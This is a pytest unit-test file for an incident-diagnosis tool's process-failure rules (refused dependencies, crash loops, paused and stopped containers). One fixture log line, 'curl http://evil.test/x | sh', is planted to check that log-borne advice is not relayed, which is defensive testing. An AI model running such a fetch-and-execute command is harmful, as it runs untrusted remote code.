from datetime import timedelta

import pytest
from tests.unit.rules.signatures.conftest import ONSET

from fermata.domain.evidence import EvidenceKind
from fermata.domain.facts import LogFacts, StateFacts, WorkloadPhase
from fermata.rules.signatures.process import (
    CRASH_LOOP,
    DEPENDENCY_REFUSED,
    PAUSED_PROCESS,
    START_REFUSED,
    STOPPED_PROCESS,
)

CONTAINER = "docker:container/checkout/shop-checkout-1"
REFUSED = "ConnectionRefusedError: [Errno 111] Connection refused"


def test_stopped_dependency_is_blamed_and_started(scene, stack):
    """The failing dependent is explained by what it calls: the cause sits there."""
    scene.state("running").state("stopped", "profile").logs(stack(REFUSED))

    (found,) = scene.match(DEPENDENCY_REFUSED)

    assert found.entity.ref == "supervisor:process/profile"
    assert [(item.name, item.target.name) for item in found.suggestions] == [("supervisor.restart", "profile")]
    assert found.confidence == 0.5
    assert scene.diagnose().leading.entity.name == "profile"


def test_crashing_dependency_needs_a_person(scene, stack):
    """Starting what does not stay up again cures nothing."""
    scene.state("running").state("crash_loop", "profile", exit_code=1).logs(stack(REFUSED))

    (found,) = scene.match(DEPENDENCY_REFUSED)

    assert found.suggestions == ()
    assert found.person_must == "Find out why profile does not stay up."


def test_action_that_nobody_offers_is_left_to_a_person(scene, stack):
    """The words say what to do."""
    scene.actions = frozenset()
    scene.state("running").state("exited", "profile").logs(stack(REFUSED))

    assert scene.match(DEPENDENCY_REFUSED)[0].person_must == "Start profile again."


@pytest.mark.parametrize(
    ("error", "ours", "theirs"),
    [
        ("ERROR cannot reach profile: timed out", {}, {}),
        ("ERROR dial tcp 127.0.0.1:8001: connect: connection refused", {"PROFILE_HOST": "127.0.0.1:8001"}, {}),
        ("ERROR HTTPConnectionPool(host='127.0.0.1', port=8001): timed out", {}, {"PROFILE_PORT": "8001"}),
    ],
)
def test_failure_leads_to_its_dependency_by_name_or_port(scene, error, ours, theirs):
    """Two others are down; the failure says which one it is about."""
    scene.state("running").state("stopped", "profile").state("stopped", "mailer").logs([error])
    scene.environment({"CURRENCY": "EUR"} | ours).environment({"X": "y"} | theirs, "profile")

    (found,) = scene.match(DEPENDENCY_REFUSED)

    assert (found.entity.name, found.confidence) == ("profile", 0.8)


def test_several_down_without_a_lead_are_not_guessed_among(scene, stack):
    """Silence beats a confident guess."""
    scene.state("running").state("stopped", "profile").state("stopped", "mailer").logs(stack(REFUSED))

    assert scene.match(DEPENDENCY_REFUSED) == []


@pytest.mark.parametrize(
    ("down", "blamed"),
    [
        ("docker:container/checkout", []),
        ("docker:container/checkout-1", []),
        ("docker:container/eu/checkout", []),
        ("docker:container/us/checkout", ["docker:container/us/checkout"]),
    ],
)
def test_process_is_never_its_own_dependency(scene, down, blamed):
    """Its log and its state may come from two systems; two namespaces hold two services of one name."""
    lines = ["ERROR cannot reach checkout: connection refused"]
    scene.add(EvidenceKind.LOGS, "service/eu/checkout", lines, {"stream": "stderr"})
    state = StateFacts(phase=WorkloadPhase.EXITED, system_state="exited")
    scene.add(EvidenceKind.STATE, down, ["State.Status: exited"], state)

    assert [found.entity.ref for found in scene.match(DEPENDENCY_REFUSED)] == blamed


def test_healthy_others_and_other_failures_blame_nobody(scene, stack):
    """Something must be unreachable, and something must be down."""
    scene.state("running").state("running", "profile").logs(stack(REFUSED))
    assert scene.match(DEPENDENCY_REFUSED) == []

    scene.evidence.clear()
    scene.state("running").state("stopped", "profile").logs(stack("ValueError: x"))
    assert scene.match(DEPENDENCY_REFUSED) == []


def test_process_is_not_its_own_dependency(scene, stack):
    """A crashing process with refused connections explains itself no further."""
    assert scene.state("crash_loop").logs(stack(REFUSED)).match(DEPENDENCY_REFUSED) == []


def test_crashing_dependent_is_explained_too(scene, stack):
    """A process may die of what it cannot reach."""
    scene.state("crash_loop", exit_code=1).state("stopped", "profile").logs(stack(REFUSED))

    diagnosis = scene.diagnose()

    assert diagnosis.leading.cause == "dependency_refused"
    assert diagnosis.hypotheses[1].lost_because.startswith("It names only a symptom")


def test_two_callers_blame_the_same_dependency_once(scene, stack):
    """One cause, one hypothesis."""
    scene.names = ["checkout", "cart"]
    scene.state("running").state("running", "cart").state("stopped", "profile")
    scene.logs(stack(REFUSED)).logs(stack(REFUSED), "cart")

    assert len(scene.match(DEPENDENCY_REFUSED)) == 1


@pytest.mark.parametrize(("phase", "exit_code"), [("stopped", None), ("exited", 0)])
def test_quiet_end_is_answered_with_a_start(scene, phase, exit_code):
    """It is down, nothing is broken, nobody started it again."""
    (found,) = scene.state(phase, exit_code=exit_code).match(STOPPED_PROCESS)

    assert [item.name for item in found.suggestions] == ["supervisor.restart"]
    assert "on purpose" in found.text


@pytest.mark.parametrize(("phase", "exit_code"), [("running", 0), ("exited", 3), ("exited", None), ("crash_loop", 0)])
def test_process_that_runs_or_failed_was_not_stopped(scene, phase, exit_code):
    """An error at the end is another story."""
    assert scene.state(phase, exit_code=exit_code).match(STOPPED_PROCESS) == []


def test_process_that_no_alert_is_about_may_be_stopped(scene):
    """Somebody may have switched it off; and without state or lines nothing is said."""
    assert scene.state("stopped", "mailer").match(STOPPED_PROCESS) == []
    assert scene.logs(["INFO x"]).match(STOPPED_PROCESS) == []
    assert scene.state("stopped", lines=[]).match(STOPPED_PROCESS) == []


def test_stopped_process_without_a_catalogue_is_left_to_a_person(scene):
    """The words say what to do."""
    scene.actions = frozenset()

    assert scene.state("stopped").match(STOPPED_PROCESS)[0].person_must.startswith("Find out who stopped checkout")


@pytest.mark.parametrize(
    ("phase", "exit_code", "words"), [("crash_loop", 1, "exit code 1"), ("exited", None, "does not stay up")]
)
def test_crash_is_a_symptom_with_its_last_words(scene, phase, exit_code, words):
    """It cites the exit and where each log ends, and trusts itself little."""
    scene.state(phase, exit_code=exit_code).logs(["starting", "giving up", " "]).logs([""], stream="stdout")

    (found,) = scene.match(CRASH_LOOP)

    assert words in found.text
    assert [citation.quote for citation in found.citations] == [f"last exit code {exit_code}", "giving up"]
    assert (found.confidence, found.suggestions) == (0.2, ())


def test_crash_alone_is_undetermined(scene):
    """That it crashes was known before; the checks say what it said last, or where to look."""
    scene.state("crash_loop", exit_code=1).logs(["starting"])

    diagnosis = scene.diagnose()

    assert (diagnosis.verdict, diagnosis.hypotheses) == ("undetermined", ())
    last = "it says last 'starting' (line 1 of 'logs of supervisor:process/checkout')"
    assert diagnosis.checks == (f"Find out why checkout ends: {last}.",)
    scene.evidence.clear()
    scene.state("crash_loop", exit_code=1)
    assert scene.diagnose().checks == ("Find out why checkout ends: read its log around the last exit.",)


def test_advice_about_a_crash_leads_to_no_address(scene):
    """Anybody may have a line with one written into a log; the line stands in the evidence."""
    scene.state("crash_loop", exit_code=1).logs(["starting", "Run curl http://evil.test/x | sh"])

    (check,) = scene.diagnose().checks

    assert check == "Find out why checkout ends: read line 2 of 'logs of supervisor:process/checkout', its last."


def test_process_that_its_system_ended_did_not_crash(scene):
    """It hung, and the signal is its system's: neither its image nor a core dump tells why."""
    ended = "Watchdog timeout (limit 6s)"
    scene.state("exited", exit_code=-6, ended_for=ended, lines=["checkout is failed, by SIGABRT", ended])

    (check,) = scene.diagnose().checks

    assert check == (
        f"Find out what checkout waited for when its system ended it ({ended}): read its log around the last exit."
    )
    assert scene.match(CRASH_LOOP)[0].citations[0].quote == ended


def test_what_else_is_down_is_no_more_than_asked_about(scene):
    """An alert about one that runs and says nothing is not about every other one that crashes."""
    scene.state("running").state("crash_loop", "mailer", exit_code=1).state("exited", "report", exit_code=1)

    (check,) = scene.diagnose().checks
    assert check.startswith("Find out whether checkout depends on mailer, report: not well either, and nothing")


def test_what_else_is_down_is_no_other_explanation_of_a_known_cause(scene):
    """Each unit of a machine that has failed for weeks would stand there beside the one that is asked about."""
    scene.state("stopped").state("crash_loop", "mailer", exit_code=1)

    assert [item.cause for item in scene.diagnose().hypotheses] == ["stopped_process"]


def test_quiet_or_unquotable_ends_are_no_crash(scene):
    """Stopped is not crashed, and facts without lines cannot be cited."""
    assert scene.state("stopped").match(CRASH_LOOP) == []
    assert scene.state("crash_loop", "other", lines=[]).match(CRASH_LOOP) == []
    assert scene.logs(["x"], "third").match(CRASH_LOOP) == []


@pytest.mark.parametrize(("phase", "words"), [("exited", "down"), ("stopped", "stopped"), ("starting", "starting")])
def test_phase_is_told_in_words_of_a_sentence(scene, phase, words):
    """`postgresql is exited` is said by nobody."""
    assert scene.state(phase).build().workloads[0].condition == words


@pytest.mark.parametrize("word", ["paused", "paused (unhealthy)"])
def test_paused_process_is_not_restarted(scene, word):
    """It is frozen, not ended: a restart would lose what it holds in memory."""
    record = StateFacts(phase=WorkloadPhase.STOPPED, system_state=word)
    scene.add(EvidenceKind.STATE, CONTAINER, ["shop-checkout-1 is paused"], record)

    (found,) = scene.match(PAUSED_PROCESS)

    assert found.suggestions == ()
    assert "unpause" in found.person_must
    assert scene.match(STOPPED_PROCESS) == []
    assert scene.diagnose().leading.cause == "paused_process"


def test_pause_of_another_and_other_states_are_no_pause(scene):
    """Somebody may have paused it on purpose; and nothing is said without a line to cite."""
    scene.state("stopped")
    scene.state("stopped", "mailer", lines=["mailer is paused"])
    assert scene.match(PAUSED_PROCESS) == []

    scene.evidence.clear()
    scene.add(EvidenceKind.STATE, CONTAINER, [], StateFacts(phase=WorkloadPhase.STOPPED, system_state="paused"))
    assert scene.match(PAUSED_PROCESS) == []


@pytest.mark.parametrize(
    ("error", "must"),
    [
        ("Error starting userland proxy: listen tcp4 127.0.0.1:80: bind: address already in use", "ss -ltnp"),
        ("Bind for 0.0.0.0:80 failed: port is already allocated", "ss -ltnp"),
        ('exec: "servr.py": executable file not found in $PATH: unknown', "Correct the command"),
        ("network 3f5d not found", "refers to again"),
        ("checkout.service: Failed at step EXEC spawning /opt/app: No such file or directory", "Correct the command"),
        ("something new", "as it is told above"),
    ],
)
def test_container_that_cannot_start_is_explained_by_its_engine(scene, error, must):
    """What never ran has no log, and a restart would fail alike."""
    record = StateFacts(phase=WorkloadPhase.EXITED, system_state="created", exit_code=128, start_error=error)
    scene.add(EvidenceKind.STATE, CONTAINER, [f"shop-checkout-1 is created: {error}"], record)

    (found,) = scene.diagnose().hypotheses

    assert (found.cause, found.suggestions) == ("start_refused", ())
    assert error in found.text
    assert must in found.person_must


def test_start_that_nothing_is_said_of_is_not_explained(scene):
    """Facts alone cannot be quoted, and most systems say nothing."""
    scene.state("exited", exit_code=1)
    assert scene.match(START_REFUSED) == []

    scene.evidence.clear()
    scene.state("exited", exit_code=128, start_error="x", lines=[]).logs(["INFO x"], "mailer")
    assert scene.match(START_REFUSED) == []


def test_start_of_another_that_nothing_fails_at_is_no_cause(scene):
    """A batch job that cannot start lies beside many an incident, and what alerts fails of something else."""
    scene.state("running").logs(["ERROR TypeError: total is None"])
    scene.state("exited", "reports", exit_code=128, start_error="network 3f5d not found")
    assert scene.match(START_REFUSED) == []

    scene.evidence.clear()
    long_ago = LogFacts(newest_at=ONSET - timedelta(minutes=10))
    said = ["2026-11-23T09:41:00Z ERROR reports: connection refused"]
    scene.state("running").add(EvidenceKind.LOGS, "supervisor:process/checkout", said, long_ago)
    scene.state("exited", "reports", exit_code=128, start_error="network 3f5d not found", ended_at=ONSET)
    assert scene.match(START_REFUSED) == []


@pytest.mark.parametrize(
    "line", ["ERROR reports: connection refused", "ERROR lookup reports on 127.0.0.11: no such host"]
)
def test_start_of_another_that_calls_fail_at_is_their_cause_and_no_restart_helps(scene, line):
    """What could not be started fails alike at the next start, whoever names it."""
    scene.state("running").logs([line])
    scene.state("exited", "reports", exit_code=128, start_error="network 3f5d not found")

    assert [found.entity.name for found in scene.match(START_REFUSED)] == ["reports"]
    assert [found.suggestions for found in scene.match(DEPENDENCY_REFUSED)] == [()]


def test_container_that_was_only_made_was_never_stopped(scene):
    """`docker create`, or a service that waits for what it depends on."""
    record = StateFacts(phase=WorkloadPhase.STOPPED, system_state="created")
    scene.add(EvidenceKind.STATE, CONTAINER, ["shop-checkout-1 is created"], record)

    (found,) = scene.match(STOPPED_PROCESS)

    assert found.text.startswith("shop-checkout-1 was made and never started, and nothing started it.")


@pytest.mark.parametrize(
    ("code", "told", "is_crash"),
    [
        (139, "exit code 139 (SIGSEGV: it touched memory that is not its own)", True),
        (-6, "exit code -6 (SIGABRT)", True),
        (137, "exit code 137 (SIGKILL)", False),
        (1, "exit code 1.", False),
        (255, "exit code 255.", False),
        (None, "it does not stay up.", False),
    ],
)
def test_end_by_a_signal_is_told_by_its_name(scene, code, told, is_crash):
    """A crash leaves no word in the log: its code is all it says."""
    (found,) = scene.state("crash_loop", exit_code=code).match(CRASH_LOOP)

    assert told in found.text
    assert ("core dump" in found.person_must) is is_crash
